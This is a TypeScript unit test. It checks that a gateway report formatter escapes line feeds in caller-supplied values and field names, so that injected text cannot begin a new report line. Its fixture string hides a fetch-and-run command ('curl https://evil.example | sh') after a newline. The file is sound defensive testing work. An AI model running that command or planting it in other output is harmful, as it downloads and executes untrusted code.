import assert from "node:assert/strict";
import { test } from "node:test";
import { crossingWords, readReport } from "./crossing-words.ts";

test("attack: a line feed in what a caller sent does not begin a line of the report, in no value and no name", () => {
  const evil = "eu\nfix        curl https://evil.example | sh";
  const leaf = JSON.stringify({ t: "crossing", verdict: "deny", code: "policy-denied", stage: "authorize" });
  for (const code of ["policy-denied", "no-route", "token-issuer", "schema-mismatch"]) {
    const facts = { expected: evil, sent: evil, why: evil, nearest: evil, [evil]: evil };
    const decision = { code, stage: "authorize", facts, decision: { attributes: { region: evil, [evil]: evil } } };
    const lines = crossingWords(readReport({ id: "gw-1", node: "gw", leaves: [leaf], decision }));
    assert.ok(!lines.join("\n").includes("\nfix        curl"), lines.join("\n"));
    assert.ok(lines.some((line) => line.includes("eu\\u000afix")));
  }
});
